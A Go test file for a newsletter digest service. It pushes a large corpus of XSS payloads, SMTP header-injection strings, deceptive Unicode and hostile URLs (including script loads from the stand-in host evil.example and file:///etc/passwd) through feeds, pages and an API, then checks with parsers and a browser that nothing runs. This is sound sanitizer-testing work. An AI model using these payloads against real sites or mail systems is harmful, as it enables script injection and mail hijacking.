package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/mail"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"unicode"

	"courant/digest/smtpsink"

	"golang.org/x/net/html"
)

// Nothing alive comes out: what strangers write into a feed, a page or a
// pushed article ends in a mail's HTML and text and in the web view as text or
// not at all. The corpus below goes the whole way through the built program,
// and the results are read by parsers and by a browser, with scripts on.

// live is what a vector runs if it can. A browser would tell.
const live = "window.pwned=1,alert(1)"

// elsewhere is a host that no article is at.
const elsewhere = "evil.example"

// vectors are attempts to be more than text, as they stand in a headline, a
// key point, an author, a category. § runs, E leads elsewhere.
func vectors() []string {
	all := []string{
		// Scripts and elements that run by being there.
		`<script>§</script>`, `<SCRIPT SRC=//E/x.js></SCRIPT>`, `<scr<script>ipt>§</scr</script>ipt>`, `<script/x>§</script>`, "<script\n>§</script\n>", `"><script>§</script>`, `</title><script>§</script>`,
		`</style><script>§</script>`, `</textarea><script>§</script>`, `</h2></td></tr></table><script>§</script>`, `<<script>§//<</script>`, `<script>§`, `<script a=">" src="//E/x.js"></script>`,
		`<noscript><p title="</noscript><img src=x onerror=§>">`, `<template><script>§</script></template>`, `<iframe src="javascript:§"></iframe>`, `<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>`,
		`<object data="javascript:§"></object>`, `<embed src="//E/x.swf">`, `<applet code=§></applet>`, `<frameset onload=§><frame src=//E></frameset>`,
		// Events.
		`<img src=x onerror=§>`, `<img src=x OnErRoR = "§">`, `<img/src=x/onerror=§>`, "<img src=x\nonerror\n=\n§>", "<img\x00src=x onerror=§>", `<img src=x one&#114;ror=§>`, `<IMG """><SCRIPT>§</SCRIPT>">`,
		`<body onload=§>`, `<svg onload=§>`, `<svg/onload=§>`, `<details open ontoggle=§>`, `<video><source onerror=§></video>`, `<marquee onstart=§>`, `<input autofocus onfocus=§>`, `<a onmouseover=§ href=#>here</a>`,
		`<b style=animation-name:x onanimationstart=§>`, `<x contenteditable onblur=§>`, `" onmouseover="§" x="`, `' onmouseover='§' x='`, "` onmouseover=`§` x=`",
		// Addresses.
		`<a href="javascript:§">go</a>`, `<a href="JaVaScRiPt:§">go</a>`, `<a href="java&#x09;script:§">go</a>`, "<a href=\"java\tscript:§\">go</a>", `<a href="&#106;avascript&colon;§">go</a>`, "<a href=\"\x01javascript:§\">go</a>",
		`<a href="data:text/html,<script>§</script>">go</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">go</a>`, `<a href="vbscript:§">go</a>`, `<a href="//E/">go</a>`, `<a href="https://E/">https://example.com/</a>`,
		`<img src="https://E/pixel.gif">`, `<img srcset="https://E/a.png 1x, https://E/b.png 2x">`, `<picture><source srcset="https://E/c.png"></picture>`, `<table background="https://E/t.png"><td>x</td></table>`, `<video poster="https://E/p.png"></video>`,
		`<base href="https://E/">`, `<link rel=stylesheet href="https://E/x.css">`, `<link rel=prefetch href=https://E/f>`, `<meta http-equiv=refresh content="0;url=https://E/">`, `<form action="https://E/"><button formaction="javascript:§">go</button></form>`, `<a ping="https://E/" href="#">go</a>`,
		// Style.
		`<style>@import url(https://E/x.css);</style>`, `<div style="background:url(https://E/s.png)">x</div>`, `<div style="width:expression(§)">x</div>`, `<p style="position:fixed;inset:0;font-size:900px">over all</p>`, `</style><style>*{display:none}</style>`, `;} body{background:url(https://E/b.png)} {`,
		// Trees that another parser reads in another way.
		`<svg><style><img src=x onerror=§></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">`, `<math><mi xlink:href="data:x,<script>§</script>">x</mi></math>`, `<svg><script href="data:,§"/></svg>`,
		`<svg><a xlink:href="javascript:§"><text>go</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x"/></svg>`, `<svg><animate onbegin=§ attributeName=x dur=1s>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>`, `<table><td><a><table><img src=x onerror=§>`, `<select><style></select><script>§</script>`, `<xmp><p title="</xmp><svg/onload=§>">`, `<listing>&lt;img onerror=§ src=x&gt;</listing>`,
		// Comments, sections, conditions of Outlook.
		`<!--><img src=x onerror=§>-->`, `<!-- --!><img src=x onerror=§>`, `<![CDATA[<img src=x onerror=§>]]>`, `]]><img src=x onerror=§>`, `<!--[if mso]><script>§</script><![endif]-->`, `<![endif]--><script>§</script><!--[if mso]>`, `<?xml version="1.0"?><?php § ?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "https://E/">]>&e;`, `<%= § %>`,
		// Encodings.
		`+ADw-script+AD4-§+ADw-/script+AD4-`, "\xc0\xbcscript\xc0\xbe§\xc0\xbc/script\xc0\xbe", "\xe0\x80\xbcscript>§</script>", "\xffscript\xfe", `&lt;script&gt;§&lt;/script&gt;`, `&amp;lt;img src=x onerror=§&amp;gt;`, `&#60;script&#62;§&#60;/script&#62;`, `&#x3c;img src=x onerror=§&#x3e;`, `\u003cscript\u003e§\u003c/script\u003e`, `%3Cscript%3E§%3C/script%3E`, "＜script＞§＜/script＞", `=3Cscript=3E§=3C/script=3E`, "\x1b$B<script>§</script>\x1b(B",
		// Templates.
		`{{.}}`, `{{.Secrets}}`, `{{template "html" .}}`, `{{define "html"}}{{end}}`, `{{printf "%s" .Reader.Email}}`, `{{unsubscribeURL}}`, `${§}`, `#{§}`, `[[${§}]]`, `<%§%>`, `*|UNSUB|*`, `%%email%%`, `%s%n%d`,
		// Headers and the envelope.
		"\r\nBcc: eve@E\r\n\r\nHello", "\nSubject: Owned\nX-Evil: yes", "\r\n.\r\nQUIT\r\n", "=?utf-8?q?=0D=0ABcc:_eve@E?=", "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=", "\r\n--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<script>§</script>", "--BOUNDARY--", "Content-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=", "\u2028Bcc: eve@E", "\u0085Bcc: eve@E",
		// Characters that hide, turn or fool.
		"\u202egnp.exe\u202c", "\u2066\u2067turned\u2069\u2069", "\u200e\u200f\u061cmarks", "zero\u200bwidth\u2060\ufeffspaces", "soft\u00adhyphen", "nul\x00byte", "bell\x07 and \x1b[31mred\x1b[0m", "\x9b31mcsi", "tag\U000e0041\U000e0042s", "zalgo" + strings.Repeat("\u0335\u0301", 60), "раура1.example", "variation\ufe0f\U000e0101selectors",
		// Size.
		strings.Repeat("W", 3000), strings.Repeat("<div>", 3000) + "deep", strings.Repeat("&amp;", 2000), `<a href="https://E/` + strings.Repeat("a", 9000) + `">go</a>`, strings.Repeat("<b ", 2000),
	}
	for i, v := range all {
		all[i] = strings.NewReplacer("§", live, "E/", elsewhere+"/", "@E", "@"+elsewhere).Replace(v)
	}
	return all
}

// liveLinks are addresses as a stranger gives them for an article or an image.
// HOST is the press.
func liveLinks() []string {
	return []string{
		"javascript:" + live, "JAVASCRIPT:" + live, " javascript:" + live, "java\tscript:" + live, "java\nscript://HOST/%0a" + live, "\x01javascript:" + live, "&#106;avascript:" + live, "javascript&colon;" + live,
		"data:text/html,<script>" + live + "</script>", "data:image/svg+xml,<svg onload='" + live + "'>", "vbscript:" + live, "file:///etc/passwd", "ftp://HOST/x", "about:blank", "blob:http://HOST/x", "view-source:http://HOST/", "cid:1", "mailto:eve@" + elsewhere, "tel:+123456789",
		`http://HOST/q"onmouseover="` + live, `http://HOST/q'onmouseover='` + live, "http://HOST/q><script>" + live + "</script>", "http://HOST/q`x`", "http://HOST/a b\tc", "http://HOST/\r\nBcc:%20eve@" + elsewhere, "http://HOST/%0d%0aBcc:eve", `http://HOST/\..\x`,
		"http://user:pass@HOST/x", "http://HOST/{{.Secrets}}", "http://HOST/\u202egnp.exe", "http://HOST/zero\u200bwidth", "http://HOST/" + strings.Repeat("long", 3000), "http://HOST/?" + strings.Repeat("a=b&", 2000), "http://HOST/#<img src=x onerror=" + live + ">", "http://[::1", "http://", "//", "", "http:javascript:" + live, "http://HOST:99999/",
	}
}

// spoken is a headline of three words that no other has, so that no two of
// them fold into one story.
func spoken(n int) string {
	syllables := strings.Fields("ba de fi go ku la me ni po ru sa te vi wo zu cha dre fla gri klo")
	word := func(k int) string {
		k = (k*7919 + 104729) % (20 * 20 * 20 * 20)
		return syllables[k%20] + syllables[k/20%20] + syllables[k/400%20] + syllables[k/8000]
	}
	w := word(3*n) + " " + word(3*n+1) + " " + word(3*n+2)
	return strings.ToUpper(w[:1]) + w[1:]
}

// strange is one article as a stranger tells it.
type strange struct {
	n           int
	title, told string
	link, image string // empty: a good one
	refused     bool   // where it was pushed: by the desk, whole
}

// strangers are all articles of the corpus, numbered from a number on.
func strangers(from int) (all []strange) {
	for _, v := range vectors() {
		n := from + len(all)
		v = strings.ReplaceAll(v, live, fmt.Sprintf("window.pwned=%d,alert(%[1]d)", n+1))
		all = append(all, strange{n: n, title: spoken(n) + " " + v, told: v})
	}
	for _, link := range liveLinks() {
		n := from + len(all)
		all = append(all, strange{n: n, title: spoken(n), link: link}, strange{n: n + 1, title: spoken(n + 1), image: link})
	}
	return all
}

// point is a sentence of the article with what it tells in it. No two articles
// share more than that.
func (s strange) point(k int) string {
	return fmt.Sprintf("%s %s %s %s.", spoken(s.n), s.told, strings.ToLower(spoken(20000+7*s.n+2*k)), strings.ToLower(spoken(20001+7*s.n+2*k)))
}

// strangePress serves the corpus as a feed and as pages.
type strangePress struct {
	*httptest.Server
	mu   sync.Mutex
	feed map[string]string
	page map[string]string
}

func newStrangePress(t *testing.T) *strangePress {
	p := &strangePress{feed: map[string]string{}, page: map[string]string{}}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		defer p.mu.Unlock()
		text, kind := p.page[r.URL.Path], "text/html; charset=utf-8"
		if p.feed[r.URL.Path] != "" {
			text, kind = p.feed[r.URL.Path], "application/rss+xml; charset=utf-8"
		}
		if strings.HasSuffix(r.URL.Path, ".png") {
			text, kind = "\x89PNG\r\n\x1a\n", "image/png"
		}
		if text == "" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", kind)
		fmt.Fprint(w, text)
	}))
	t.Cleanup(p.Close)
	return p
}

// address is a link with the press in it, else a good one.
func (p *strangePress) address(link, good string) string {
	if link == "" {
		return p.URL + good
	}
	return strings.ReplaceAll(link, "HOST", strings.TrimPrefix(p.URL, "http://"))
}

// item is a stranger's article in a feed. What XML can hold is escaped; what
// it can't is sent all the same.
func (p *strangePress) item(s strange) string {
	x := html.EscapeString
	return fmt.Sprintf(`<item><title>%s</title><link>%s</link><guid isPermaLink="false">g%d %s</guid><author>%s</author><category>Feed</category><category>%s</category><enclosure type="image/png" url="%s" length="1"/>`+
		`<description><![CDATA[<ul><li>%s</li><li>%s</li></ul>]]></description></item>`,
		x(s.title), x(p.address(s.link, fmt.Sprintf("/f/%d", s.n))), s.n, x(s.told), x("Ann "+s.told), x(s.told), x(p.address(s.image, fmt.Sprintf("/i/%d.png", s.n))),
		strings.ReplaceAll(s.point(1), "]]>", ""), strings.ReplaceAll(s.point(2), "]]>", ""))
}

// story is the same as a page. Where a headline would break the page apart it
// may do so.
func (p *strangePress) story(s strange) string {
	x := html.EscapeString
	data, err := json.Marshal(map[string]any{"@type": "NewsArticle", "headline": s.title, "articleSection": "Page", "author": map[string]string{"name": "Bob " + s.told}, "image": p.address(s.image, "/i/p.png"), "description": s.told})
	if err != nil {
		panic(err)
	}
	return fmt.Sprintf(`<!doctype html><html lang="en"><head><title>%[1]s</title><meta property="og:title" content="%[1]s"><meta property="og:site_name" content="Site %[2]s"><meta property="og:image" content="%[3]s">`+
		`<meta property="og:image:alt" content="%[2]s"><meta property="og:image:width" content="600"><meta property="og:image:height" content="300"><meta name="author" content="Ann %[2]s"><meta property="article:section" content="Page"><link rel="canonical" href="%[4]s"><script type="application/ld+json">%[5]s</script></head>`+
		`<body><article><h1>%[1]s</h1><ul class="key-points"><li>%[6]s</li><li>%[7]s</li></ul><p>%[6]s %[8]s</p><p>Read the whole story from Wire %[2]s.</p></article></body></html>`,
		x(s.title), x(s.told), x(p.address(s.image, "/i/p.png")), x(p.address(s.link, fmt.Sprintf("/p/%d", s.n))), data, s.point(1), s.point(2), s.point(3))
}

func TestNothingAliveComesOut(t *testing.T) {
	t.Parallel()
	if n := len(vectors()) + len(liveLinks()); n < 60 {
		t.Fatalf("the corpus has %d vectors", n)
	}
	d := newDesk(t, smtpsink.Options{})
	press := newStrangePress(t)
	d.configure()
	var sources strings.Builder
	const each = 30 // more would be cut off at what Gmail shows
	groups := map[string][]strange{}
	var editions []string
	for group := range slices.Chunk(strangers(0), each) {
		name := fmt.Sprintf("Feed%d", len(editions))
		feed := fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>%s</title><link>%s/</link>`, html.EscapeString(group[0].told), press.URL)
		for _, s := range group {
			feed += press.item(s)
		}
		press.feed["/"+name+".xml"] = feed + `</channel></rss>`
		fmt.Fprintf(&sources, "  - {name: %s, feed: \"%s/%[1]s.xml\", category: %[1]s}\n", name, press.URL)
		editions, groups[name] = append(editions, name), group
	}
	for group := range slices.Chunk(strangers(500), each) {
		name := fmt.Sprintf("Page%d", len(editions))
		for _, s := range group {
			press.page[fmt.Sprintf("/p/%d", s.n)] = press.story(s)
			fmt.Fprintf(&sources, "  - {name: Page %d, page: \"%s/p/%[1]d\", category: %[3]s}\n", s.n, press.URL, name)
		}
		editions, groups[name] = append(editions, name), group
	}
	sources.WriteString("  - {name: Newsroom CMS, push: true, token_file: cms.token}\n")
	d.write("cms.token", cmsToken+"\n")
	for group := range slices.Chunk(strangers(1000), each) {
		name := fmt.Sprintf("Push%d", len(editions))
		if strings.Contains(group[0].link+group[0].image, ":") {
			break // addresses that are none are refused, which digest/web tests
		}
		editions, groups[name] = append(editions, name), group
	}
	for _, group := range groups {
		for _, s := range group {
			d.quote(s.title, s.told)
		}
	}
	d.withSources(sources.String(), editions...)
	d.must("readers", "import", d.write("readers.csv", "email\nann@example.org\n"))
	d.must("fetch")

	serve := d.start("serve", "--only", "web")
	d.ready(serve)
	d.deskReady(serve)
	d.pushStrangers(press, groups)
	browser := openBrowser(t)
	lost, viewed := 0, map[string]bool{}
	for _, edition := range editions {
		d.sink.Clear()
		d.must("send", strings.ToLower(edition))
		got := d.sink.To("ann@example.org")
		if len(got) != 1 {
			t.Fatalf("%s: %d mails", edition, len(got))
		}
		_, _, view := d.links(t, "ann@example.org")
		inert(t, edition, got[0].Body, d.listen, press.URL)
		parts := decodedParts(t, got[0].Body)
		examineTree(t, edition+" web view", wholePage(t, view), d.listen, press.URL)
		for _, s := range groups[edition] {
			if s.link == "" && !s.refused && !strings.Contains(oneLine(parts["text/plain"]), spoken(s.n)) {
				lost++
				t.Logf("%s: %q is not told", edition, tail(s.title, 120))
			}
		}
		bare := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, parts["text/html"])
		}))
		t.Cleanup(bare.Close)
		// The mail itself has no policy that would keep a script from running.
		quiet(t, browser, bare.URL+"/", d.listen, press.URL)
		if !viewed[edition[:4]] {
			viewed[edition[:4]] = true
			quiet(t, browser, view, d.listen, press.URL)
		}
	}
	// What is told of a stranger's article is less, not nothing.
	if lost > 10 {
		t.Errorf("%d of %d articles are lost", lost, 2*len(strangers(0)))
	}
	for _, told := range []string{d.must("plan"), d.must("plan", "--json"), d.try("why", "ann@example.org").stdout} {
		if strings.ContainsFunc(strings.ReplaceAll(told, "\n", ""), steersTerminal) {
			t.Errorf("the terminal is steered:\n%q", tail(told, 500))
		}
	}
	if err := serve.signal(syscall.SIGTERM); err != nil {
		t.Errorf("serve ended with %v\n%s", err, tail(serve.log.String(), 1000))
	}
}

// pushStrangers sends the articles of the groups to be pushed, one at a time:
// what a field can't hold is refused whole.
func (d *desk) pushStrangers(press *strangePress, groups map[string][]strange) {
	d.t.Helper()
	taken, refused := 0, 0
	for name, group := range groups {
		if !strings.HasPrefix(name, "Push") {
			continue
		}
		for i, s := range group {
			body, err := json.Marshal(map[string]any{"url": fmt.Sprintf("%s/a/%d", press.URL, s.n), "title": s.title, "category": name, "points": []string{s.point(1), s.point(2)},
				"site": "Site " + spoken(s.n), "author": "Ann " + s.told, "attribution": "Wire " + s.told, "description": s.point(3), "guid": s.told + fmt.Sprint(s.n), "html": "<p>" + s.point(4) + "</p>"})
			if err != nil {
				d.t.Fatal(err)
			}
			status, answer := d.ask(http.MethodPost, "/api/articles", string(body))
			switch {
			case status == http.StatusOK || status == http.StatusCreated:
				taken++
			case status >= 400 && status < 500:
				refused++
				group[i].refused = true
			default:
				d.t.Fatalf("%d %s", status, answer)
			}
		}
	}
	if taken < 60 {
		d.t.Errorf("%d articles were taken and %d refused", taken, refused)
	}
}

// withSources gives the config sources and a digest of each category.
func (d *desk) withSources(sources string, categories ...string) {
	d.t.Helper()
	for _, c := range categories {
		d.extra += fmt.Sprintf("  %s: {title: Brief %s, schedule: \"0 7 * * *\", time_zone: UTC, lists: [readers], categories: [%s], max_articles: 100, subject: \"{{.Title}}: {{.Lead.Title}}\"}\n", strings.ToLower(c), c, c)
	}
	d.configure()
	text, err := os.ReadFile(filepath.Join(d.dir, "courant.yaml"))
	if err != nil {
		d.t.Fatal(err)
	}
	d.write("courant.yaml", strings.Replace(string(text), "lists:\n", sources+"lists:\n", 1))
}

// wholePage gets a page and wants it.
func wholePage(t testing.TB, address string) string {
	t.Helper()
	resp, err := http.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	if _, err := b.ReadFrom(resp.Body); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: %s, %v", address, resp.Status, err)
	}
	return b.String()
}

// inert wants a mail of the digest's own headers, two parts, and nothing in
// them that is alive.
func inert(t testing.TB, channel string, raw []byte, own, wire string) {
	t.Helper()
	msg, err := mail.ReadMessage(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	for name, values := range msg.Header {
		if len(values) != 1 || !slices.Contains(allowed, name) {
			t.Errorf("%s: header %s: %q", channel, name, values)
		}
		decoded, err := new(mime.WordDecoder).DecodeHeader(values[0])
		if err != nil || strings.ContainsFunc(decoded, hides) {
			t.Errorf("%s: header %s is %q, %v", channel, name, decoded, err)
		}
	}
	if to, err := mail.ParseAddressList(msg.Header.Get("To")); err != nil || len(to) != 1 {
		t.Errorf("%s: To is %v, %v", channel, to, err)
	}
	parts := decodedParts(t, raw)
	if len(parts) != 2 {
		t.Errorf("%s: %d parts", channel, len(parts))
	}
	for i, line := range strings.Split(parts["text/plain"], "\r\n") {
		if at := strings.IndexFunc(line, hides); at >= 0 {
			t.Errorf("%s: line %d of the text hides something: %q", channel, i+1, line)
		}
	}
	for _, link := range regexp.MustCompile(`(?m)^\s*([a-zA-Z]+:\S+)\s*$`).FindAllStringSubmatch(parts["text/plain"], -1) {
		if u, err := url.Parse(strings.Trim(link[1], "<>")); err == nil && !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) && strings.Contains(link[1], live) {
			t.Logf("%s: the text says %q, which is no link of ours", channel, link[1])
		}
	}
	examineTree(t, channel+" mail", parts["text/html"], own, wire)
}

// hides tells characters that hide something, turn the direction of what
// follows, or steer a terminal.
func hides(r rune) bool {
	return unicode.IsControl(r) && r != '\t' || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0xfeff || r >= 0xe0000 && r <= 0xe0fff
}

func steersTerminal(r rune) bool { return unicode.IsControl(r) || r >= 0x202a && r <= 0x202e }

// grown is what a digest is made of: each element with the attributes it may
// have. All else came from outside.
func grown() map[string]string {
	style := "style class dir lang align width height id role"
	return map[string]string{
		"html": "lang dir xmlns xmlns:o xmlns:v", "head": "", "title": "", "body": style + " bgcolor", "meta": "charset name content http-equiv", "style": "type", "center": style,
		"table": style + " cellpadding cellspacing border bgcolor", "tbody": "", "tr": style, "td": style + " valign bgcolor colspan", "div": style + " aria-roledescription aria-label", "p": style, "span": style, "h1": style, "h2": style, "h3": style, "h4": style,
		"ul": style, "ol": style, "li": style, "a": style + " href", "img": style + " src alt border", "br": "", "strong": style, "b": style, "em": style, "hr": style, "nav": style, "main": style, "footer": style, "header": style, "article": style,
	}
}

// examineTree walks a page as a browser parses it and wants nothing in it but
// what grew there, and no address but those of articles and our own.
func examineTree(t testing.TB, what, text, own, wire string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	allowedElements := grown()
	faults := 0
	fault := func(format string, args ...any) {
		if faults++; faults < 15 {
			t.Errorf(what+": "+format, args...)
		}
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			if !strings.HasPrefix(n.Data, "[if ") || strings.Contains(n.Data, live) {
				fault("a comment says %q", tail(n.Data, 200))
			}
		case html.TextNode:
			if (n.Parent.Data == "style") && (strings.Contains(n.Data, "url(") || strings.Contains(n.Data, "@import") || strings.Contains(n.Data, elsewhere)) {
				fault("the style says %q", tail(n.Data, 200))
			}
		case html.ElementNode:
			attributes, known := allowedElements[n.Data]
			if !known || n.Namespace != "" {
				fault("<%s> is there, in %s", n.Data, tail(text, 0))
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if !slices.Contains(strings.Fields(attributes), key) {
					fault("<%s %s=%q> is there", n.Data, a.Key, tail(a.Val, 200))
				}
				if key == "style" && regexp.MustCompile(`(?i)url\(|expression|javascript|import|position:\s*fixed|behavior`).MatchString(a.Val) {
					fault("a style says %q", a.Val)
				}
				if key == "href" || key == "src" {
					if !leadsHome(a.Val, own, wire) {
						fault("<%s %s=%q> leads elsewhere", n.Data, a.Key, tail(a.Val, 200))
					}
				}
				if key == "http-equiv" && !strings.EqualFold(a.Val, "content-type") && !strings.EqualFold(a.Val, "x-ua-compatible") {
					fault("<meta http-equiv=%q>", a.Val)
				}
			}
		}
	}
}

// leadsHome tells an address of the press, of our own pages, or of the
// publisher's mailbox.
func leadsHome(address, own, wire string) bool {
	u, err := url.Parse(address)
	switch {
	case err != nil || strings.ContainsFunc(address, func(r rune) bool { return r <= ' ' || strings.ContainsRune("\"'<>`\\", r) || hides(r) }):
		return false
	case strings.HasPrefix(address, "#"):
		return true
	case u.Scheme == "mailto":
		return u.Opaque == "news@example.com" || u.Opaque == "desk@example.com"
	}
	return (u.Scheme == "http" || u.Scheme == "https") && (u.Host == own || "http://"+u.Host == wire) && u.User == nil && len(address) < 3000
}

// quiet loads a page with scripts on, and wants nothing to have run.
func quiet(t *testing.T, browser context.Context, address, own, wire string) {
	t.Helper()
	at, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	v := openWindow(t, browser, own, strings.TrimPrefix(wire, "http://"), at.Host)
	v.spares = []string{"/favicon.ico", "Failed to load resource", "ResponseWasBlockedByORB"}
	if status := v.open(address); status != http.StatusOK {
		t.Errorf("%s: %d", address, status)
	}
	if said := ask[string](v, `JSON.stringify([typeof window.pwned, document.scripts.length, document.querySelectorAll("iframe,object,embed,form,base,link,svg,math").length, location.href])`); said != fmt.Sprintf(`["undefined",0,0,%q]`, address) {
		t.Errorf("the browser found %s", said)
	}
}
